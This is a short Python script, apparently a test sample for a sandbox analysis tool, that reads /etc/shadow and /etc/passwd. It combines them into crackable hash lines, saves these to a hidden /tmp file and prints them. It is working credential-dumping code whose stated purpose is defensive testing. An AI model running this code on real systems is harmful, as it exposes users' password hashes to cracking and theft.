#!/usr/bin/python3
# Credential dumping: reads /etc/shadow and /etc/passwd, joins them into crackable lines and writes them to a hidden file.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
shadow = {l.split(":")[0]: l.split(":")[1] for l in open("/etc/shadow") if l.count(":") > 2}
out = []
for line in open("/etc/passwd"):
    f = line.rstrip("\n").split(":")
    h = shadow.get(f[0], "")
    if h.startswith("$"):
        out.append(":".join([f[0], h] + f[2:]))
open("/tmp/.unshadowed", "w").write("\n".join(out) + "\n")
print("\n".join(out))
